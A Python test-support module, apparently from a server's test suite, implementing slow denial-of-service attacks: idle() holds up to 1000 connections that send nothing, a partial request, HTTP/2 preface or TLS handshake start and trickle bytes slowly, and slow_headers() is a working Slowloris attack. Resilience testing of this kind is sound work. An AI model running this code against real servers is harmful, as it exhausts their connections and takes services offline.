"""Attacks by slowness: connections that ask for nothing, or for a part of something, byte by byte."""

import asyncio
from contextlib import suppress

from tests.support.attacks import Done
from tests.support.attacks.h2 import PAUSE, PREFACE, settings

BYTE_SECONDS = 2.0
"""Time between two bytes of those that send some."""

NOTHING = b""
HALF_LINE = b"GET / HT"
HALF_PREFACE = PREFACE[:10]
NO_STREAM = PREFACE + settings()
HANDSHAKE = b"\x16\x03\x01"
"""The beginning of a TLS handshake."""


async def idle(
    host: str,
    port: int,
    done: Done,
    *,
    connections: int = 1000,
    sent: bytes = NOTHING,
    trickle: bytes = b"",
    source: str | None = None,
) -> None:
    """Holds connections that send `sent`, then a byte of `trickle` now and then, and nothing else. When the
    server closes one it is opened again."""

    async def hold() -> None:
        while True:
            try:
                reader, writer = await asyncio.open_connection(
                    host, port, local_addr=(source, 0) if source else None
                )
            except OSError:
                done["refused"] += 1
                await asyncio.sleep(PAUSE)
                continue
            done["connections"] += 1
            sending = asyncio.ensure_future(_send(writer, sent, trickle))
            try:
                with suppress(ConnectionError):
                    while await reader.read(65536):
                        pass
                done["closed"] += 1
                await asyncio.sleep(PAUSE)
            finally:
                sending.cancel()
                writer.transport.abort()

    async with asyncio.TaskGroup() as group:
        for _ in range(connections):
            group.create_task(hold())


async def _send(writer: asyncio.StreamWriter, sent: bytes, trickle: bytes) -> None:
    with suppress(ConnectionError):
        writer.write(sent)
        for byte in trickle:
            await writer.drain()
            await asyncio.sleep(BYTE_SECONDS)
            writer.write(bytes((byte,)))


async def slow_headers(host: str, port: int, done: Done, **options: str | None) -> None:
    """Slowloris: headers that come byte by byte."""
    await idle(host, port, done, connections=200, sent=b"GET / HTTP/1.1\r\n", trickle=b"x-a: b\r\n" * 100)
